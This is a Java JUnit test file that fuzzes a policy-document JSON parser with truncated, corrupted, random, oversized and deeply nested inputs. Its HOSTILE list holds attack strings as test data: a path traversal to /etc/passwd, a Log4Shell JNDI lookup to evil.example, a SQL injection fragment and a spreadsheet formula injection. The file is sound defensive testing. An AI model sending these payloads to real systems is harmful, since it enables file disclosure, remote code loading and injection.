package dev.rollcall.policy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.rollcall.Seeded;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever bytes somebody sends, the answer is a value or problems. */
@Tag("P1")
class HostileDocumentsTest {

  private static final List<String> SAMPLES =
      List.of(
          "policies/smallest.json",
          "policies/company-employees.json",
          "policies/every-option.json",
          "environments/contoso.json");

  private static final List<String> HOSTILE =
      List.of(
          "",
          " ",
          "../../etc/passwd",
          "a/b\\c#d?e",
          "\u0000",
          "a\nb",
          "\uD800",
          "\u202Eabc",
          "${jndi:ldap://evil.example/a}",
          "{{{{{{",
          "}{}{",
          "{" + "{surname}".repeat(500),
          "P999999999999999999999999D",
          "PT0.0000000001S",
          "*".repeat(300),
          "x".repeat(70_000),
          "' OR 1=1 --",
          "=cmd|' /C calc'!A0",
          "NaN",
          "null");

  @Test
  void aDocumentCutAnywhereIsAnswered() {
    for (String sample : SAMPLES) {
      byte[] whole = Documents.sample(sample);
      for (int length = 0; length < whole.length - 2; length++) {
        List<DocumentProblem> problems = answer(Arrays.copyOf(whole, length));
        assertEquals(1, problems.size(), sample + " cut at " + length);
      }
    }
  }

  @Test
  void aDocumentWithValuesOfOtherKindsIsAnswered() {
    Seeded.cases(
        600,
        random -> {
          ObjectNode document = document(random);
          int times = 1 + random.nextInt(6);
          for (int i = 0; i < times; i++) {
            List<JsonNode> containers = containers(document);
            spoil(containers.get(random.nextInt(containers.size())), random);
          }
          List<DocumentProblem> problems = answer(Documents.bytes(document));
          problems.forEach(problem -> assertFalse(problem.allowed().isBlank(), problem::toString));
        });
  }

  @Test
  void aDocumentWithChangedBytesIsAnswered() {
    Seeded.cases(
        600,
        random -> {
          byte[] bytes = Documents.sample(SAMPLES.get(random.nextInt(SAMPLES.size())));
          int times = 1 + random.nextInt(8);
          for (int i = 0; i < times; i++) {
            bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
          }
          answer(bytes);
        });
  }

  @Test
  void randomBytesAreAnswered() {
    Seeded.cases(
        300,
        random -> {
          byte[] bytes = new byte[random.nextInt(2000)];
          random.nextBytes(bytes);
          assertEquals(1, answer(bytes).size());
        });
  }

  @Test
  void aHugeDocumentIsRefusedUnread() {
    byte[] huge = new byte[10 * 1024 * 1024];
    Arrays.fill(huge, (byte) '[');

    List<DocumentProblem> problems = answer(huge);

    assertTrue(problems.get(0).message().contains("too large"), problems.toString());
  }

  @ParameterizedTest
  @ValueSource(ints = {33, 1000, 100_000})
  void deepNestingIsRefused(int depth) {
    String lists = "{\"id\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
    String objects = "{\"id\":".repeat(depth) + "1" + "}".repeat(depth);

    for (String text : List.of(lists, objects, "[".repeat(depth))) {
      List<DocumentProblem> problems = answer(text.getBytes(StandardCharsets.UTF_8));
      assertEquals(1, problems.size());
    }
  }

  @Test
  void aLargeDocumentOfProblemsIsAnsweredSoon() {
    String many = "\"a@b.c\",".repeat(25_000);
    List<String> texts =
        List.of(
            "{\"source\":{\"select\":[" + "{},".repeat(60_000) + "{}]}}",
            "{\"source\":{\"select\":[" + "{},".repeat(5_900) + "{}]}}",
            "{\"source\":{\"select\":[" + "{\"a\":1},".repeat(2_900) + "{}]}}",
            "{\"mapping\":{\"categories\":[" + many + "\"a\"]}}",
            "{\"mapping\":{\"categories\":[" + many.substring(0, 88_000) + "\"a\"]}}",
            "{\"mapping\":{\"displayName\":\"" + "{a} ".repeat(60_000) + "\"}}",
            "{\"mapping\":{\"displayName\":\"" + "{".repeat(200_000) + "\"}}",
            "{\"name\":\"" + " ".repeat(200_000) + "\\u0001\"}",
            "{\"target\":{\"folder\":\"" + "/".repeat(200_000) + "\"}}",
            "{\"schedule\":{\"every\":\"P" + "9".repeat(200_000) + "D\"}}",
            "{\"" + "k".repeat(200_000) + "\":1}");

    for (String text : texts) {
      byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
      List<DocumentProblem> problems =
          assertTimeoutPreemptively(
              Duration.ofSeconds(10), () -> answer(bytes), text.substring(0, 30));
      assertTrue(!problems.isEmpty() && problems.size() <= 201, text.substring(0, 30));
      problems.forEach(
          problem -> assertTrue(problem.toString().length() < 3000, text.substring(0, 30)));
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          {"id":"a","id":"b"}   | A key stands twice          | line 1, column
          {"id":"a"} {}         | Something follows           | line 1, column
          {"id":"a"}x           | is not JSON                 | line 1, column
          {"id":                | ends too early              | line 1, column
          {'id':'a'}            | is not JSON                 | line 1, column
          {"id":NaN}            | is not JSON                 | line 1, column
          {"id":"a",}           | is not JSON                 | line 1, column
          []                    | not a JSON object           | a list
          null                  | not a JSON object           | null
          "text"                | not a JSON object           | a text
          """)
  void whatIsNoDocumentIsSaidWithItsPlace(String text, String message, String found) {
    List<DocumentProblem> problems = answer(text.getBytes(StandardCharsets.UTF_8));

    assertEquals(1, problems.size());
    assertTrue(problems.get(0).message().contains(message), problems.toString());
    assertTrue(problems.get(0).found().startsWith(found), problems.toString());
  }

  @Test
  void otherEncodingsAreRefusedAndAByteOrderMarkIsNot() {
    String text =
        new String(Documents.sample("environments/contoso.json"), StandardCharsets.UTF_8)
            .replace("The whole", "Die große");

    assertEquals(List.of(), answer(("\uFEFF" + text).getBytes(StandardCharsets.UTF_8)));
    assertTrue(
        answer(text.getBytes(StandardCharsets.ISO_8859_1)).get(0).message().contains("UTF-8"));
    assertEquals(1, answer(text.getBytes(StandardCharsets.UTF_16)).size());
  }

  @Test
  void numbersWithoutEndAndHalfCharactersAreNamed() {
    String text = "{\"id\":\"\\ud800\",\"target\":{\"concurrency\":1e999,\"x\":-1e400}}";

    assertEquals(
        List.of("/id", "/target/concurrency", "/target/x"),
        Documents.problems(PolicyDocuments.policy(text.getBytes(StandardCharsets.UTF_8))).stream()
            .map(DocumentProblem::pointer)
            .toList());
  }

  /** The problems of whichever kind of document it is nearer to; both are asked. */
  private static List<DocumentProblem> answer(byte[] bytes) {
    List<DocumentProblem> policy = Documents.problems(PolicyDocuments.policy(bytes));
    List<DocumentProblem> environment = Documents.problems(PolicyDocuments.environment(bytes));
    return policy.size() <= environment.size() ? policy : environment;
  }

  private static ObjectNode document(Random random) {
    return (ObjectNode)
        Documents.tree(Documents.sample(SAMPLES.get(random.nextInt(SAMPLES.size()))));
  }

  private static List<JsonNode> containers(JsonNode node) {
    List<JsonNode> containers = new ArrayList<>();
    if (node.isContainerNode()) {
      containers.add(node);
      node.forEach(child -> containers.addAll(containers(child)));
    }
    return containers;
  }

  private static void spoil(JsonNode container, Random random) {
    if (container instanceof ArrayNode array) {
      if (array.isEmpty() || random.nextInt(3) == 0) {
        array.add(value(random));
      } else {
        array.set(random.nextInt(array.size()), value(random));
      }
    } else if (container instanceof ObjectNode object) {
      List<String> keys = new ArrayList<>();
      object.fieldNames().forEachRemaining(keys::add);
      boolean add = keys.isEmpty() || random.nextInt(4) == 0;
      String key =
          add ? HOSTILE.get(random.nextInt(HOSTILE.size())) : keys.get(random.nextInt(keys.size()));
      if (!add && random.nextInt(5) == 0) {
        object.remove(key);
      } else {
        object.set(key, value(random));
      }
    }
  }

  private static JsonNode value(Random random) {
    ObjectNode holder = JsonText.MAPPER.createObjectNode();
    String key = "v";
    switch (random.nextInt(9)) {
      case 0 -> holder.putNull(key);
      case 1 -> holder.put(key, random.nextBoolean());
      case 2 -> holder.put(key, random.nextInt());
      case 3 -> holder.put(key, random.nextDouble() * 1e300);
      case 4 -> holder.put(key, new BigDecimal("1e400"));
      case 5 -> holder.putArray(key).add(1).add("x").addNull();
      case 6 -> holder.putObject(key).put("x", 1);
      default -> holder.put(key, HOSTILE.get(random.nextInt(HOSTILE.size())));
    }
    return holder.get(key);
  }
}
